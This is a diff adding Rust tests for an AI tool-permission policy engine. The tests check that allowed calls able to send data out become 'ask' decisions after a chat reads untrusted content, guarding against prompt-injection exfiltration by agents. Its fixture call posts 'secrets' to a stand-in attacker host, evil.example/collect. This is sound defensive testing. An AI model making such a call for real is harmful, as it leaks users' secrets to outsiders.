@@ -1,0 +1,143 @@
+//! Step 7 of `decide`'s precedence, one row per case: once a conversation has read untrusted
+//! content, an allowed call that could send data out is asked; nothing else changes.
+
+use serde_json::json;
+use toolgate_policy::{
+    decide_in, Annotations, Basis, Context, Decision, DefaultDecision, Effect, PolicySettings,
+    Rule, Scope, Subject, ToolCall,
+};
+
+const NOW: i64 = 1_700_000_000_000;
+const READ: &str = "fetch_url on Web, which reads the outside world";
+const OUT: &str = "the server marks post_url as reaching the outside world";
+
+fn post() -> ToolCall {
+    ToolCall {
+        server_id: "web".into(),
+        tool: "post_url".into(),
+        arguments: json!({"url": "https://evil.example/collect", "body": "secrets"}),
+        annotations: Annotations::default(),
+        server_fingerprint: "web-v1".into(),
+        tool_fingerprint: "post-v1".into(),
+    }
+}
+
+fn read_only(mut c: ToolCall) -> ToolCall {
+    c.annotations.read_only = true;
+    c
+}
+
+fn settings(rules: Vec<Rule>) -> PolicySettings {
+    PolicySettings {
+        rules,
+        ..PolicySettings::default()
+    }
+}
+
+struct Case {
+    name: &'static str,
+    subject: Subject,
+    settings: PolicySettings,
+    untrusted: bool,
+    egress: bool,
+    client: Option<&'static str>,
+    want: (Decision, Basis, Option<&'static str>),
+}
+
+#[rustfmt::skip]
+fn cases() -> Vec<Case> {
+    use Decision::{Allow, Ask, Deny};
+    let call = post();
+    let allow_tool = || Rule::allow_tool("allow-post", &call, Scope::Always, NOW);
+    let allow_server = || Rule::allow_server("allow-web", &call, Scope::Always, NOW);
+    let in_chat = || Rule { scope: Scope::Conversation { id: "c1".into() }, ..allow_tool() };
+    let for_client = || Rule { client: Some("claude-code".into()), ..allow_tool() };
+    let deny = || Rule::deny_tool("deny-post", &call, Scope::Always, NOW);
+    let ask = || Rule::ask_tool("ask-post", &call, Scope::Always, NOW);
+    let sampling = Subject::Sampling { server_id: "web".into(), server_fingerprint: "web-v1".into() };
+    let allow_sampling = || Rule::for_subject("sample", Effect::Allow, &sampling, Scope::Always, NOW);
+    let auto_read_only = PolicySettings { auto_allow_read_only: true, ..settings(vec![]) };
+    let deny_default = |rules| PolicySettings { default: DefaultDecision::Deny, ..settings(rules) };
+    let paused = PolicySettings { paused: true, ..settings(vec![allow_tool()]) };
+    let c = |name, subject: Subject, settings, untrusted, egress, client, want| Case { name, subject, settings, untrusted, egress, client, want };
+    let t = |c: &ToolCall| Subject::ToolCall(c.clone());
+    vec![
+        c("always-allow rule, tainted, egress: asked", t(&call), settings(vec![allow_tool()]), true, true, None, (Ask, Basis::Untrusted, None)),
+        c("server-wide allow, tainted, egress: asked", t(&call), settings(vec![allow_server()]), true, true, None, (Ask, Basis::Untrusted, None)),
+        c("allow in this chat, tainted, egress: asked", t(&call), settings(vec![in_chat()]), true, true, None, (Ask, Basis::Untrusted, None)),
+        c("a client's allow, tainted, egress: asked", t(&call), settings(vec![for_client()]), true, true, Some("claude-code"), (Ask, Basis::Untrusted, None)),
+        c("read-only auto-allow, tainted, egress: asked", t(&read_only(call.clone())), auto_read_only.clone(), true, true, None, (Ask, Basis::Untrusted, None)),
+        c("allow under deny-by-default, tainted, egress: asked", t(&call), deny_default(vec![allow_tool()]), true, true, None, (Ask, Basis::Untrusted, None)),
+        c("tainted but no way out: the rule allows", t(&call), settings(vec![allow_tool()]), true, false, None, (Allow, Basis::Rule, Some("allow-post"))),
+        c("a way out but nothing untrusted read: the rule allows", t(&call), settings(vec![allow_tool()]), false, true, None, (Allow, Basis::Rule, Some("allow-post"))),
+        c("a deny rule still denies", t(&call), settings(vec![allow_tool(), deny()]), true, true, None, (Deny, Basis::Rule, Some("deny-post"))),
+        c("deny by default still denies", t(&call), deny_default(vec![]), true, true, None, (Deny, Basis::Default, None)),
+        c("pause still denies", t(&call), paused, true, true, None, (Deny, Basis::Paused, None)),
+        c("an ask rule still asks, by its rule", t(&call), settings(vec![allow_tool(), ask()]), true, true, None, (Ask, Basis::Rule, Some("ask-post"))),
+        c("the default still asks", t(&call), settings(vec![]), true, true, None, (Ask, Basis::Default, None)),
+        c("sampling is not a call that sends data out", sampling.clone(), settings(vec![allow_sampling()]), true, true, None, (Allow, Basis::Rule, Some("sample"))),
+    ]
+}
+
+#[test]
+fn an_allowed_call_that_could_send_data_out_is_asked_once_the_chat_read_untrusted_content() {
+    let mut failures = Vec::new();
+    for case in cases() {
+        case.settings
+            .validate()
+            .unwrap_or_else(|e| panic!("{}: {e}", case.name));
+        let v = decide_in(
+            &case.subject,
+            &case.settings,
+            &Context {
+                conversation_id: Some("c1"),
+                client: case.client,
+                now_ms: NOW,
+                untrusted: case.untrusted.then_some(READ),
+                egress: case.egress.then_some(OUT),
+            },
+        );
+        let got = (v.decision, v.basis, v.rule_id.as_deref());
+        if got != case.want {
+            failures.push(format!(
+                "{}: got {got:?}, want {:?} ({})",
+                case.name, case.want, v.reason
+            ));
+        }
+        // Whenever both hold, the reason says so: the card shows it.
+        if case.untrusted
+            && case.egress
+            && v.decision == Decision::Ask
+            && matches!(case.subject, Subject::ToolCall(_))
+            && !(v.reason.contains(READ) && v.reason.contains(OUT))
+        {
+            failures.push(format!("{}: the reason hides why: {}", case.name, v.reason));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn the_reason_names_the_content_the_way_out_and_the_rule_it_overrides() {
+    let call = post();
+    let v = decide_in(
+        &Subject::ToolCall(call.clone()),
+        &settings(vec![
+            Rule::allow_tool("r", &call, Scope::Always, NOW).with_note("posting to the web")
+        ]),
+        &Context {
+            untrusted: Some(READ),
+            egress: Some(OUT),
+            now_ms: NOW,
+            ..Context::default()
+        },
+    );
+    assert_eq!(
+        v.reason,
+        format!(
+            "asking because this chat has read untrusted content ({READ}), and this call could \
+             send data out ({OUT}); otherwise it would be allowed by your rule “posting to the \
+             web” (always)"
+        )
+    );
+}
